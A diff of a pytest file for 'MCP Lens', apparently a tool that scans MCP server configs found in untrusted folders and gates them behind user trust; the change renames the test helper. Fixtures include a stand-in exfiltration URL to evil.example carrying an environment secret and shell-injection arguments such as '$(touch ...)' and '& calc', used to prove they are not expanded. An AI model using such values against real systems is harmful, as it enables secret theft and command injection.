@@ -25,7 +25,7 @@ from inspector.engine.views import ServerStatus
 from tests.helpers.servers import ARGV, Lab
 
 
-class Desk:
+class Harness:
     """An engine in a folder that came from somebody else."""
 
     def __init__(self, tmp_path: Path) -> None:
@@ -39,12 +39,12 @@ class Desk:
 
     def start(self) -> Lab:
         """MCP Lens, started in that folder."""
-        engine = Engine(self.catalogue, trust=TrustStore(self.store), places=self.places)
+        engine = Engine(self.catalogue, trust=TrustStore(self.store), locations=self.locations)
         engine.found.folder = self.folder
         self.lab = Lab(engine=engine)
         return self.lab
 
-    def places(self, folder: Path) -> tuple[ConfigLocation, ...]:
+    def locations(self, folder: Path) -> tuple[ConfigLocation, ...]:
         return locations_for("linux", self.home, {}, folder)
 
     @property
@@ -54,22 +54,22 @@ class Desk:
     def write(self, **servers: JSONObject) -> None:
         self.file.write_text(json.dumps({"mcpServers": servers}))
 
-    async def look(self, name: str = "srv") -> FoundView:
-        report = await self.found.look()
+    async def scan(self, name: str = "srv") -> FoundView:
+        report = await self.found.scan()
         (view,) = [view for view in report.servers if view.name == name]
         return view
 
     async def trust(self, name: str = "srv", variables: tuple[str, ...] = (), **inputs: str) -> FoundView:
-        view = await self.look(name)
+        view = await self.scan(name)
         await self.found.trust(view.id, view.seen, variables, inputs)
         return self.found.view(view.id)
 
 
 @pytest.fixture
-async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
-    desk = Desk(tmp_path)
-    yield desk
-    await desk.lab.engine.close()
+async def harness(tmp_path: Path) -> AsyncIterator[Harness]:
+    harness = Harness(tmp_path)
+    yield harness
+    await harness.lab.engine.close()
 
 
 def touching(marker: Path, *more: str) -> JSONObject:
@@ -85,7 +85,7 @@ def fault(*words: str, **members: object) -> JSONObject:
 # ------------------------------------------------------------------ T1: nothing by itself
 
 
-async def test_found_servers_are_neither_started_nor_contacted(desk: Desk, tmp_path: Path) -> None:
+async def test_found_servers_are_neither_started_nor_contacted(harness: Harness, tmp_path: Path) -> None:
     marker, contacts = tmp_path / "marker", 0
 
     def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -95,11 +95,11 @@ async def test_found_servers_are_neither_started_nor_contacted(desk: Desk, tmp_p
 
     counter = await asyncio.start_server(count, "127.0.0.1", 0)
     port = counter.sockets[0].getsockname()[1]
-    desk.write(runs=touching(marker), calls={"url": f"http://127.0.0.1:{port}/mcp"})
-    engine = desk.lab.engine
+    harness.write(runs=touching(marker), calls={"url": f"http://127.0.0.1:{port}/mcp"})
+    engine = harness.lab.engine
     engine.load()
     engine.servers.connecting.connect_at_start()
-    report = await desk.found.look()
+    report = await harness.found.scan()
     engine.servers.connecting.connect_all()
     assert {view.name: view.trust for view in report.servers} == {"runs": Trust.NONE, "calls": Trust.NONE}
     assert engine.views() == ()
@@ -116,127 +116,127 @@ async def test_found_servers_are_neither_started_nor_contacted(desk: Desk, tmp_p
     assert contacts == 1  # our own
 
 
-async def test_review_shows_everything_untruncated(desk: Desk) -> None:
+async def test_review_shows_everything_untruncated(harness: Harness) -> None:
     long = "x" * 4096
-    desk.write(
+    harness.write(
         srv={
             "command": "python3",
             "args": ["server.py", long, "${HOME}"],
             "env": {"API_KEY": "k3y", "MODE": "${MODE:-fast}"},
         }
     )
-    (desk.folder / "server.py").write_text("1")
-    view = await desk.look()
+    (harness.folder / "server.py").write_text("1")
+    view = await harness.scan()
     assert (view.command, view.args) == ("python3", ("server.py", long, "${HOME}"))
     assert view.env_names == ("API_KEY", "MODE")
     assert view.variables == ("HOME", "MODE")
-    assert view.folder == str(desk.folder)
+    assert view.folder == str(harness.folder)
     assert os.path.isabs(view.program)
-    assert view.scripts == (str(desk.folder / "server.py"),)
-    assert view.source.path == desk.file
+    assert view.scripts == (str(harness.folder / "server.py"),)
+    assert view.source.path == harness.file
     facts = dict(view.facts)
     assert facts["env.API_KEY"] == "•••"
     assert facts["args[1]"] == long
     assert "k3y" not in repr(view.facts)
 
 
-async def test_servers_with_equal_names_are_both_shown_with_which_overrides_which(desk: Desk) -> None:
-    desk.write(srv=fault())
-    (desk.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
-    report = await desk.found.look()
+async def test_servers_with_equal_names_are_both_shown_with_which_overrides_which(harness: Harness) -> None:
+    harness.write(srv=fault())
+    (harness.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
+    report = await harness.found.scan()
     first, second = (view for view in report.servers if view.name == "srv")
-    assert (first.source.path, first.overridden_by) == (desk.file, None)
+    assert (first.source.path, first.overridden_by) == (harness.file, None)
     assert first.overrides == (second.source,)
     assert second.overridden_by == first.source
 
 
-async def test_a_broken_file_is_reported_and_the_others_load(desk: Desk) -> None:
-    desk.file.write_text('{"mcpServers": {\n  "a": }')
-    (desk.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
-    report = await desk.found.look()
+async def test_a_broken_file_is_reported_and_the_others_load(harness: Harness) -> None:
+    harness.file.write_text('{"mcpServers": {\n  "a": }')
+    (harness.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
+    report = await harness.found.scan()
     assert [view.name for view in report.servers] == ["srv"]
     (problem,) = [file.problem for file in report.files if file.problem]
     assert "line 2" in problem
 
 
-async def test_another_folder_can_be_searched(desk: Desk, tmp_path: Path) -> None:
-    desk.write(srv=fault())
+async def test_another_folder_can_be_searched(harness: Harness, tmp_path: Path) -> None:
+    harness.write(srv=fault())
     other = tmp_path / "other"
     other.mkdir()
     (other / ".mcp.json").write_text(json.dumps({"mcpServers": {"there": fault()}}))
-    report = await desk.found.look(other)
+    report = await harness.found.scan(other)
     assert [(view.name, view.folder) for view in report.servers] == [("there", str(other))]
 
 
 # ------------------------------------------------------------------ trusting
 
 
-async def test_trusted_server_is_listed_in_this_run_and_the_next(desk: Desk) -> None:
-    desk.write(srv=fault())
-    view = await desk.trust()
+async def test_trusted_server_is_listed_in_this_run_and_the_next(harness: Harness) -> None:
+    harness.write(srv=fault())
+    view = await harness.trust()
     assert (view.trust, view.server) == (Trust.GIVEN, "srv")
-    ours = desk.lab.view()
-    assert (ours.is_kept, ours.status) == (False, ServerStatus.IDLE)
-    assert str(desk.file) in ours.origin
-    await desk.lab.engine.connect("srv")
-    assert await desk.lab.text("echo", text="hello") == "hello"
-    assert not desk.catalogue.path.exists()
-    await desk.lab.engine.close()
+    ours = harness.lab.view()
+    assert (ours.is_saved, ours.status) == (False, ServerStatus.IDLE)
+    assert str(harness.file) in ours.origin
+    await harness.lab.engine.connect("srv")
+    assert await harness.lab.text("echo", text="hello") == "hello"
+    assert not harness.catalogue.path.exists()
+    await harness.lab.engine.close()
 
-    lab = desk.start()
-    assert (await desk.look()).trust is Trust.GIVEN
+    lab = harness.start()
+    assert (await harness.scan()).trust is Trust.GIVEN
     assert lab.view().status is ServerStatus.IDLE
     await lab.engine.connect("srv")
 
 
-async def test_change_during_the_review_is_not_trusted(desk: Desk) -> None:
-    desk.write(srv=fault())
-    view = await desk.look()
-    desk.write(srv=fault("silent"))
+async def test_change_during_the_review_is_not_trusted(harness: Harness) -> None:
+    harness.write(srv=fault())
+    view = await harness.scan()
+    harness.write(srv=fault("silent"))
     with pytest.raises(ConfigError, match=r"was changed in .* while you looked"):
-        await desk.found.trust(view.id, view.seen)
+        await harness.found.trust(view.id, view.seen)
     with pytest.raises(ConfigError, match="while you looked"):
-        await desk.found.import_(view.id, view.seen)
-    assert not desk.store.exists()
-    assert desk.lab.engine.views() == ()
+        await harness.found.import_(view.id, view.seen)
+    assert not harness.store.exists()
+    assert harness.lab.engine.views() == ()
 
 
-async def test_server_that_loses_trust_is_disconnected_and_removed(desk: Desk) -> None:
-    desk.write(srv=fault())
-    view = await desk.trust()
-    await desk.lab.engine.connect("srv")
-    await desk.found.forget(view.id)
-    assert desk.lab.engine.views() == ()
-    assert desk.found.view(view.id).trust is Trust.NONE
+async def test_server_that_loses_trust_is_disconnected_and_removed(harness: Harness) -> None:
+    harness.write(srv=fault())
+    view = await harness.trust()
+    await harness.lab.engine.connect("srv")
+    await harness.found.forget(view.id)
+    assert harness.lab.engine.views() == ()
+    assert harness.found.view(view.id).trust is Trust.NONE
 
 
-async def test_taken_name_gets_a_number(desk: Desk) -> None:
-    desk.lab.engine.save(StdioEntry(name="srv", command="x"))
-    desk.write(srv=fault())
-    view = await desk.trust()
+async def test_taken_name_gets_a_number(harness: Harness) -> None:
+    harness.lab.engine.save(StdioEntry(name="srv", command="x"))
+    harness.write(srv=fault())
+    view = await harness.trust()
     assert view.server == "srv 2"
-    await desk.lab.engine.connect("srv 2")
+    await harness.lab.engine.connect("srv 2")
 
 
-async def test_found_server_cannot_be_edited_or_removed_but_copied(desk: Desk) -> None:
-    desk.write(srv=fault())
-    before = desk.file.read_bytes()
-    view = await desk.trust()
-    entry = desk.lab.engine.entry("srv")
+async def test_found_server_cannot_be_edited_or_removed_but_copied(harness: Harness) -> None:
+    harness.write(srv=fault())
+    before = harness.file.read_bytes()
+    view = await harness.trust()
+    entry = harness.lab.engine.entry("srv")
     with pytest.raises(ConfigError, match="MCP Lens does not change"):
-        await desk.lab.engine.servers.update("srv", entry)
+        await harness.lab.engine.servers.update("srv", entry)
     with pytest.raises(ConfigError, match="Stop trusting"):
-        await desk.lab.engine.remove("srv")
-    copy = await desk.found.import_(view.id, view.seen, "mine")
-    assert (copy.is_kept, copy.origin) == (True, "")
-    assert desk.catalogue.find("mine").name == "mine"
-    await desk.lab.engine.connect("mine")
-    assert desk.file.read_bytes() == before
+        await harness.lab.engine.remove("srv")
+    copy = await harness.found.import_(view.id, view.seen, "mine")
+    assert (copy.is_saved, copy.origin) == (True, "")
+    assert harness.catalogue.find("mine").name == "mine"
+    await harness.lab.engine.connect("mine")
+    assert harness.file.read_bytes() == before
 
 
-async def test_import_is_saved_with_its_folder_and_input_values(desk: Desk) -> None:
-    (desk.folder / ".vscode").mkdir()
-    (desk.folder / ".vscode" / "mcp.json").write_text(
+async def test_import_is_saved_with_its_folder_and_input_values(harness: Harness) -> None:
+    (harness.folder / ".vscode").mkdir()
+    (harness.folder / ".vscode" / "mcp.json").write_text(
         json.dumps(
             {
                 "inputs": [{"id": "key", "type": "promptString", "description": "Key", "password": True}],
@@ -246,62 +246,64 @@ async def test_import_is_saved_with_its_folder_and_input_values(desk: Desk) -> N
             }
         )
     )
-    view = await desk.look()
+    view = await harness.scan()
     assert [(each.id, each.is_password) for each in view.inputs] == [("key", True)]
-    await desk.found.import_(view.id, view.seen, "mine", {"key": "v"})
-    entry = desk.catalogue.find("mine")
+    await harness.found.import_(view.id, view.seen, "mine", {"key": "v"})
+    entry = harness.catalogue.find("mine")
     assert isinstance(entry, StdioEntry)
-    assert (entry.args, entry.cwd) == ((f"{desk.folder}/a",), str(desk.folder))
+    assert (entry.args, entry.cwd) == ((f"{harness.folder}/a",), str(harness.folder))
     assert entry.env == {"K": "${input:key}"}
-    assert await desk.lab.engine.secrets.get("input/mine/key") == "v"
+    assert await harness.lab.engine.secrets.get("input/mine/key") == "v"
 
 
 # ------------------------------------------------------------------ T2: exactly this content
 
 
-async def test_a_swapped_argument_is_asked_about_again_and_not_started(desk: Desk, tmp_path: Path) -> None:
+async def test_a_swapped_argument_is_asked_about_again_and_not_started(
+    harness: Harness, tmp_path: Path
+) -> None:
     marker = tmp_path / "marker"
-    desk.write(srv=touching(marker, "good"))
-    await desk.trust()
-    desk.write(srv=touching(marker, "evil"))
+    harness.write(srv=touching(marker, "good"))
+    await harness.trust()
+    harness.write(srv=touching(marker, "evil"))
     with pytest.raises(ConfigError, match=r"changed since you trusted it, in .*: args\[2\]"):
-        await desk.lab.engine.connect("srv")
+        await harness.lab.engine.connect("srv")
     assert not marker.exists()
-    assert desk.lab.view().status is ServerStatus.FAILED
-    (view,) = desk.found.report.servers
+    assert harness.lab.view().status is ServerStatus.FAILED
+    (view,) = harness.found.report.servers
     assert view.trust is Trust.CHANGED
     (change,) = view.changes
     assert (change.field, change.before, change.after) == ("args[2]", "good", "evil")
-    await desk.lab.engine.close()
+    await harness.lab.engine.close()
 
-    desk.start()
-    assert (await desk.look()).trust is Trust.CHANGED
-    assert desk.lab.engine.views() == ()
-    await desk.trust()
-    desk.lab.engine.connect_soon("srv")
-    await desk.lab.until(ServerStatus.FAILED)  # it is no server
+    harness.start()
+    assert (await harness.scan()).trust is Trust.CHANGED
+    assert harness.lab.engine.views() == ()
+    await harness.trust()
+    harness.lab.engine.connect_soon("srv")
+    await harness.lab.until(ServerStatus.FAILED)  # it is no server
     assert marker.read_text() == "['evil']"
 
 
-async def test_a_script_that_was_rewritten_is_asked_about_again(desk: Desk) -> None:
-    script = desk.folder / "server.py"
+async def test_a_script_that_was_rewritten_is_asked_about_again(harness: Harness) -> None:
+    script = harness.folder / "server.py"
     script.write_text("raise SystemExit(3)")
-    desk.write(srv={"command": sys.executable, "args": ["-u", "server.py"]})
-    await desk.trust()
+    harness.write(srv={"command": sys.executable, "args": ["-u", "server.py"]})
+    await harness.trust()
     script.write_text("raise SystemExit(4)")
     with pytest.raises(ConfigError, match=r"program\.scripts"):
-        await desk.lab.engine.connect("srv")
+        await harness.lab.engine.connect("srv")
 
 
-async def test_a_program_that_was_replaced_is_asked_about_again(desk: Desk) -> None:
-    program = desk.folder / "prog"
+async def test_a_program_that_was_replaced_is_asked_about_again(harness: Harness) -> None:
+    program = harness.folder / "prog"
     program.write_text("#!/bin/sh\nexit 3\n")
     program.chmod(0o755)
-    desk.write(srv={"command": str(program)})
-    await desk.trust()
+    harness.write(srv={"command": str(program)})
+    await harness.trust()
     program.write_text("#!/bin/sh\nexit 4\n")
     with pytest.raises(ConfigError, match=r"program\.sha256"):
-        await desk.lab.engine.connect("srv")
+        await harness.lab.engine.connect("srv")
 
 
 @pytest.mark.parametrize(
@@ -319,43 +321,43 @@ async def test_a_program_that_was_replaced_is_asked_about_again(desk: Desk) -> N
     ],
 )
 async def test_changed_file_referenced_by_the_arguments_is_asked_about_again(
-    desk: Desk, args: list[str], file: str
+    harness: Harness, args: list[str], file: str
 ) -> None:
-    script = desk.folder / file
+    script = harness.folder / file
     script.parent.mkdir(exist_ok=True)
     script.write_text("1")
-    words: list[JSON] = [word.format(folder=desk.folder) for word in args]
-    desk.write(srv={"command": sys.executable, "args": words})
-    assert (await desk.trust()).scripts == (str(script),)
+    words: list[JSON] = [word.format(folder=harness.folder) for word in args]
+    harness.write(srv={"command": sys.executable, "args": words})
+    assert (await harness.trust()).scripts == (str(script),)
     script.write_text("2")
-    assert (await desk.look()).trust is Trust.CHANGED
+    assert (await harness.scan()).trust is Trust.CHANGED
 
 
 async def test_big_files_among_the_arguments_do_not_delay_the_scan(
-    desk: Desk, monkeypatch: pytest.MonkeyPatch
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A repository can name any file of the machine, and have a thousand links to it."""
     read: list[str] = []
 
-    def hash_of(path: str, is_whole: bool) -> str:
+    def hash_of(path: str, is_complete: bool) -> str:
         read.append(path)
-        return real(path, is_whole)
+        return real(path, is_complete)
 
     real = inspection.hash_of
     monkeypatch.setattr(inspection, "hash_of", hash_of)
-    big = desk.folder / "big.js"
+    big = harness.folder / "big.js"
     with big.open("wb") as file:
         file.truncate(1 << 40)
-    links = [desk.folder / f"link{number}.js" for number in range(500)]
+    links = [harness.folder / f"link{number}.js" for number in range(500)]
     for link in links:
         link.symlink_to(big)
-    desk.write(srv={"command": sys.executable, "args": [str(link) for link in links]})
-    view = await desk.look()
+    harness.write(srv={"command": sys.executable, "args": [str(link) for link in links]})
+    view = await harness.scan()
     assert sum(path.endswith(".js") for path in read) == 1
     assert len(view.scripts) == 500
     with big.open("r+b") as grown:
         grown.truncate((1 << 40) + 1)
-    assert (await desk.look()).seen != view.seen
+    assert (await harness.scan()).seen != view.seen
 
 
 @pytest.mark.parametrize(
@@ -367,102 +369,104 @@ async def test_big_files_among_the_arguments_do_not_delay_the_scan(
         {"url": f"https://h.example/{'x' * 300_000}"},
     ],
 )
-async def test_unreadable_server_is_neither_trusted_nor_imported(desk: Desk, members: JSONObject) -> None:
-    desk.write(srv=members)
-    view = await desk.look()
+async def test_unreadable_server_is_neither_trusted_nor_imported(
+    harness: Harness, members: JSONObject
+) -> None:
+    harness.write(srv=members)
+    view = await harness.scan()
     assert "Nobody can" in view.problem
     with pytest.raises(ConfigError, match="Nobody can"):
-        await desk.found.trust(view.id, view.seen)
+        await harness.found.trust(view.id, view.seen)
     with pytest.raises(ConfigError, match="Nobody can"):
-        await desk.found.import_(view.id, view.seen, variables=view.variables)
+        await harness.found.import_(view.id, view.seen, variables=view.variables)
 
 
-async def test_existing_connection_stays_and_is_not_reconnected_automatically(desk: Desk) -> None:
-    desk.write(srv=fault())
-    await desk.trust()
-    await desk.lab.engine.connect("srv")
-    desk.write(srv=fault("silent"))
-    assert (await desk.look()).trust is Trust.CHANGED
-    assert desk.lab.view().status is ServerStatus.CONNECTED
+async def test_existing_connection_stays_and_is_not_reconnected_automatically(harness: Harness) -> None:
+    harness.write(srv=fault())
+    await harness.trust()
+    await harness.lab.engine.connect("srv")
+    harness.write(srv=fault("silent"))
+    assert (await harness.scan()).trust is Trust.CHANGED
+    assert harness.lab.view().status is ServerStatus.CONNECTED
     with pytest.raises(ConfigError, match="changed since you trusted it"):
-        await desk.lab.engine.connect("srv")
+        await harness.lab.engine.connect("srv")
 
 
-async def test_server_removed_from_its_file_is_not_started(desk: Desk) -> None:
-    desk.write(srv=fault(), other=fault())
-    await desk.trust()
-    desk.write(other=fault())
+async def test_server_removed_from_its_file_is_not_started(harness: Harness) -> None:
+    harness.write(srv=fault(), other=fault())
+    await harness.trust()
+    harness.write(other=fault())
     with pytest.raises(ConfigError, match=r"is not in .* any more"):
-        await desk.lab.engine.connect("srv")
-    await desk.found.look()
-    assert desk.lab.engine.views() == ()
+        await harness.lab.engine.connect("srv")
+    await harness.found.scan()
+    assert harness.lab.engine.views() == ()
 
 
-async def test_approvals_that_cannot_be_read_trust_nothing_and_say_so(desk: Desk) -> None:
-    desk.write(srv=fault())
-    await desk.trust()
-    desk.store.write_text("{")
-    view = await desk.look()
+async def test_approvals_that_cannot_be_read_trust_nothing_and_say_so(harness: Harness) -> None:
+    harness.write(srv=fault())
+    await harness.trust()
+    harness.store.write_text("{")
+    view = await harness.scan()
     assert view.trust is Trust.NONE
-    assert "trust.json is not valid JSON" in desk.found.report.problem
+    assert "trust.json is not valid JSON" in harness.found.report.problem
     with pytest.raises(ConfigError, match="is not valid JSON"):
-        await desk.lab.engine.connect("srv")
+        await harness.lab.engine.connect("srv")
 
 
 # ------------------------------------------------------------------ T3: names
 
 
 async def test_references_in_an_untrusted_url_are_not_expanded(
-    desk: Desk, monkeypatch: pytest.MonkeyPatch
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("LENS_SECRET", "s3cr3t-value")
-    desk.write(srv={"url": "https://evil.example/?k=${LENS_SECRET}", "headers": {"X": "${LENS_SECRET}"}})
-    view = await desk.look()
+    harness.write(srv={"url": "https://evil.example/?k=${LENS_SECRET}", "headers": {"X": "${LENS_SECRET}"}})
+    view = await harness.scan()
     assert view.url == "https://evil.example/?k=${LENS_SECRET}"
     assert (view.variables, view.header_names) == (("LENS_SECRET",), ("X",))
-    assert "s3cr3t-value" not in repr(desk.found.report)
+    assert "s3cr3t-value" not in repr(harness.found.report)
 
 
 async def test_variable_is_substituted_only_with_approval(
-    desk: Desk, monkeypatch: pytest.MonkeyPatch
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("LENS_ONE", "one")
     monkeypatch.setenv("LENS_TWO", "two")
-    desk.write(srv=fault(env={"A": "${LENS_ONE}", "B": "${LENS_TWO:-default}"}))
-    await desk.trust()
+    harness.write(srv=fault(env={"A": "${LENS_ONE}", "B": "${LENS_TWO:-default}"}))
+    await harness.trust()
     with pytest.raises(ConfigError, match="LENS_ONE is not for this server"):
-        await desk.lab.engine.connect("srv")
-    await desk.trust(variables=("LENS_ONE", "PATH"))
-    await desk.lab.engine.connect("srv")
-    seen = json.loads(await desk.lab.text("environment"))
+        await harness.lab.engine.connect("srv")
+    await harness.trust(variables=("LENS_ONE", "PATH"))
+    await harness.lab.engine.connect("srv")
+    seen = json.loads(await harness.lab.text("environment"))
     assert (seen["A"], seen["B"]) == ("one", "default")
-    stored = json.loads(desk.store.read_text())
+    stored = json.loads(harness.store.read_text())
     assert [approval["variables"] for approval in stored["approvals"]] == [["LENS_ONE"]]
 
 
-async def test_file_cannot_reference_stored_secrets(desk: Desk) -> None:
-    await desk.lab.engine.secrets.put("header/other/K", "s3cr3t")
-    desk.write(srv={"url": "https://evil.example", "headers": {"K": {"ref": "header/other/K"}}})
-    view = await desk.look()
+async def test_file_cannot_reference_stored_secrets(harness: Harness) -> None:
+    await harness.lab.engine.secrets.put("header/other/K", "s3cr3t")
+    harness.write(srv={"url": "https://evil.example", "headers": {"K": {"ref": "header/other/K"}}})
+    view = await harness.scan()
     assert view.problem
     assert not view.is_importable
     with pytest.raises(ConfigError):
-        await desk.found.trust(view.id, view.seen)
+        await harness.found.trust(view.id, view.seen)
     with pytest.raises(ConfigError):
-        await desk.found.import_(view.id, view.seen)
+        await harness.found.import_(view.id, view.seen)
 
 
-async def test_copy_gets_no_unapproved_variable(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_copy_gets_no_unapproved_variable(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
     """One's own servers may have the whole environment: so it is asked before it is one."""
     monkeypatch.setenv("LENS_ONE", "1")
-    desk.write(srv=fault("${LENS_ONE}", "${LENS_TWO:-x}"))
-    view = await desk.look()
+    harness.write(srv=fault("${LENS_ONE}", "${LENS_TWO:-x}"))
+    view = await harness.scan()
     for agreed in ((), ("LENS_ONE",)):
         with pytest.raises(ConfigError, match=r"The copy would be given .*LENS_TWO"):
-            await desk.found.import_(view.id, view.seen, variables=agreed)
-    assert not desk.catalogue.path.exists()
-    await desk.found.import_(view.id, view.seen, variables=("LENS_ONE", "LENS_TWO"))
-    entry = desk.catalogue.find("srv")
+            await harness.found.import_(view.id, view.seen, variables=agreed)
+    assert not harness.catalogue.path.exists()
+    await harness.found.import_(view.id, view.seen, variables=("LENS_ONE", "LENS_TWO"))
+    entry = harness.catalogue.find("srv")
     assert isinstance(entry, StdioEntry)
     assert entry.args[-2:] == ("${LENS_ONE}", "${LENS_TWO:-x}")
 
@@ -470,55 +474,57 @@ async def test_copy_gets_no_unapproved_variable(desk: Desk, monkeypatch: pytest.
 # ------------------------------------------------------------------ T4, T5: how it is started
 
 
-async def test_arguments_are_passed_verbatim_without_a_shell(desk: Desk, tmp_path: Path) -> None:
+async def test_arguments_are_passed_verbatim_without_a_shell(harness: Harness, tmp_path: Path) -> None:
     marker, touched = tmp_path / "marker", tmp_path / "x"
     words = [f"; touch {touched}", f"$(touch {touched})", f"`touch {touched}`", "& calc", "a b", "*", "$HOME"]
-    desk.write(srv=touching(marker, *words))
-    await desk.trust()
-    desk.lab.engine.connect_soon("srv")
-    await desk.lab.until(ServerStatus.FAILED)
+    harness.write(srv=touching(marker, *words))
+    await harness.trust()
+    harness.lab.engine.connect_soon("srv")
+    await harness.lab.until(ServerStatus.FAILED)
     assert marker.read_text() == repr(words)
     assert not touched.exists()
 
 
 @pytest.mark.parametrize("command", ["./npx", "bin/npx", "../npx"])
-async def test_a_relative_command_is_shown_and_refused(desk: Desk, command: str) -> None:
-    desk.write(srv={"command": command})
-    view = await desk.look()
+async def test_a_relative_command_is_shown_and_refused(harness: Harness, command: str) -> None:
+    harness.write(srv={"command": command})
+    view = await harness.scan()
     assert "relative path" in view.problem
     with pytest.raises(ConfigError, match="cannot be trusted: It starts a program by a relative path"):
-        await desk.found.trust(view.id, view.seen)
+        await harness.found.trust(view.id, view.seen)
     assert view.is_importable
-    await desk.found.import_(view.id, view.seen)
-    entry = desk.catalogue.find("srv")
+    await harness.found.import_(view.id, view.seen)
+    entry = harness.catalogue.find("srv")
     assert isinstance(entry, StdioEntry)
-    assert entry.command == str((desk.folder / command).resolve()), "the copy says where the program is"
+    assert entry.command == str((harness.folder / command).resolve()), "the copy says where the program is"
 
 
 async def test_program_in_the_folder_is_not_mistaken_for_one_on_the_path(
-    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     marker = tmp_path / "marker"
-    program = desk.folder / "lens-npx"
+    program = harness.folder / "lens-npx"
     program.write_text(f"#!/bin/sh\ntouch {marker}\n")
     program.chmod(0o755)
-    monkeypatch.chdir(desk.folder)
+    monkeypatch.chdir(harness.folder)
     monkeypatch.setenv("PATH", f".{os.pathsep}{os.environ['PATH']}{os.pathsep}")
-    desk.write(srv={"command": "lens-npx", "cwd": str(desk.folder)})
-    view = await desk.trust()
+    harness.write(srv={"command": "lens-npx", "cwd": str(harness.folder)})
+    view = await harness.trust()
     assert view.program == ""
-    desk.lab.engine.connect_soon("srv")
-    failed = await desk.lab.until(ServerStatus.FAILED)
+    harness.lab.engine.connect_soon("srv")
+    failed = await harness.lab.until(ServerStatus.FAILED)
     assert "was not found on the PATH" in failed.reason
     assert not marker.exists()
 
 
-async def test_server_does_not_inherit_our_environment(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_server_does_not_inherit_our_environment(
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
+) -> None:
     for name in ("MCP_PROXY_TOKEN", "OPENAI_API_KEY", "HTTPS_PROXY", "PYTHONPATH"):
         monkeypatch.setenv(name, "leaked")
-    desk.write(srv=fault(env={"MINE": "1"}))
-    await desk.trust()
-    await desk.lab.engine.connect("srv")
-    seen = json.loads(await desk.lab.text("environment"))
+    harness.write(srv=fault(env={"MINE": "1"}))
+    await harness.trust()
+    await harness.lab.engine.connect("srv")
+    seen = json.loads(await harness.lab.text("environment"))
     assert "leaked" not in seen.values()
     assert seen["MINE"] == "1"
